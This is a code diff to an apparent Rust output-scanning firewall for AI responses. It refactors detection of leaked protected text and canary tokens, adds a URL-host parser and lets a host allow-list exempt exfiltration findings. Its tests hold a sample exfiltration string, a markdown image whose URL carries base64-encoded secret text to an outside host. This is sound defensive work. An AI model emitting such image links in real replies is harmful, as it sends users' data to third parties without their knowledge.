@@ -890,28 +890,26 @@ impl Firewall {
         {
             return;
         }
-        let (mut letters, mut offsets) = (Vec::new(), Vec::new());
-        crate::protect::letter_stream(text, &mut letters, &mut offsets);
-        let byte_span = |a: usize, b: usize| -> (usize, usize) {
-            let s = offsets[a] as usize;
-            let last = offsets[b - 1] as usize;
-            let e = last + text[last..].chars().next().map_or(1, char::len_utf8);
-            map.span(s, e)
-        };
+        let found_letters = crate::protect::scan_letters(
+            text,
+            Some(&self.protected),
+            canaries.then_some(&self.canaries),
+        );
         let mut found = Vec::new();
-        for (a, b, k) in self.protected.check(text, &letters, &offsets) {
+        for (a, b, k) in found_letters.leaks {
+            let letters = text[a..b].chars().filter(|c| c.is_alphanumeric()).count();
             found.push((
                 PROTECTED_RULE,
                 0.9,
-                byte_span(a, b),
-                format!("{} letters of protected text {} reproduced", b - a, k + 1),
+                map.span(a, b),
+                format!("{letters} letters of protected text {} reproduced", k + 1),
             ));
         }
-        for (a, b) in self.canaries.find(&letters) {
+        for (a, b) in found_letters.canaries {
             found.push((
                 CANARY_RULE,
                 0.95,
-                byte_span(a, b),
+                map.span(a, b),
                 "a canary token".to_string(),
             ));
         }
@@ -1000,6 +998,13 @@ impl Firewall {
         if rule.allow.iter().any(|a| a.is_match(matched)) {
             return false;
         }
+        if rule.category == Category::Exfiltration {
+            if let Some(host) = url_host(matched) {
+                if self.policy.exfiltration_host_allowed(&host) {
+                    return false;
+                }
+            }
+        }
         !(scan.use_allowlist && self.policy.allowed(&rule.id, matched))
     }
 
@@ -1031,6 +1036,11 @@ impl Firewall {
         }
         let excerpt = if rule.category.is_sensitive() {
             redact::mask(&text[start..end])
+        } else if let Some(host) = (rule.category == Category::Exfiltration)
+            .then(|| url_host(&text[start..end]))
+            .flatten()
+        {
+            format!("to {host}: {}", redact::excerpt(&scan.original[s..e]))
         } else {
             redact::excerpt(&scan.original[s..e])
         };
@@ -1129,6 +1139,21 @@ impl Firewall {
     }
 }
 
+/// The host of the first URL in `s` (lowercase, without user info or port).
+fn url_host(s: &str) -> Option<String> {
+    let rest = &s[s.find("://")? + 3..];
+    let authority = &rest[..rest
+        .find(['/', '?', '#', '"', '\'', ')', '>', ' '])
+        .unwrap_or(rest.len())];
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    let host = match host.strip_prefix('[') {
+        // An IPv6 literal.
+        Some(v6) => v6.split(']').next().unwrap_or(v6),
+        None => host.split(':').next().unwrap_or(host),
+    };
+    (!host.is_empty()).then(|| host.to_ascii_lowercase())
+}
+
 fn round4(x: f64) -> f64 {
     (x * 10_000.0).round() / 10_000.0
 }
@@ -1163,6 +1188,64 @@ pub fn estimate_tokens(text: &str) -> u64 {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn exfiltration_names_the_host_and_follows_allow_hosts() {
+        let r = "Done ![x](https://img.partner.example/p.png?d=U2VjcmV0IHBsYW4gZm9yIFE0)";
+        let v = Firewall::new().expect("builds").scan_response(r);
+        let f = v
+            .findings
+            .iter()
+            .find(|f| f.category == Category::Exfiltration)
+            .expect("exfiltration");
+        assert!(
+            f.excerpt.starts_with("to img.partner.example: "),
+            "{}",
+            f.excerpt
+        );
+        for hosts in [
+            "partner.example",
+            "img.partner.example",
+            "*.partner.example",
+        ] {
+            let p = Policy::from_toml(
+                &format!("[exfiltration]\nallow_hosts = [\"{hosts}\"]\n"),
+                "t",
+            )
+            .expect("policy");
+            let fw = Firewall::builder().policy(p).build().expect("builds");
+            assert_eq!(fw.scan_response(r).categories.exfiltration, 0.0, "{hosts}");
+        }
+        // Not a suffix match on names: "rtner.example" does not allow "partner.example".
+        let p = Policy::from_toml("[exfiltration]\nallow_hosts = [\"rtner.example\"]\n", "t")
+            .expect("policy");
+        let fw = Firewall::builder().policy(p).build().expect("builds");
+        assert!(fw.scan_response(r).categories.exfiltration > 0.5);
+        let e = Policy::from_toml(
+            "\n[exfiltration]\nallow_hosts = [\"https://x.example/\"]\n",
+            "p.toml",
+        )
+        .expect_err("a URL is not a host");
+        assert!(e.to_string().starts_with("p.toml:2:"), "{e}");
+    }
+
+    #[test]
+    fn hosts_of_urls() {
+        assert_eq!(
+            url_host("https://Evil.Example/p?q=1").as_deref(),
+            Some("evil.example")
+        );
+        assert_eq!(
+            url_host("![](https://a:b@host.example:8443/x)").as_deref(),
+            Some("host.example")
+        );
+        assert_eq!(
+            url_host("http://[2001:db8::1]:80/").as_deref(),
+            Some("2001:db8::1")
+        );
+        assert_eq!(url_host("no url here"), None);
+        assert_eq!(url_host("https:///path"), None);
+    }
 
     #[test]
     fn token_estimate() {
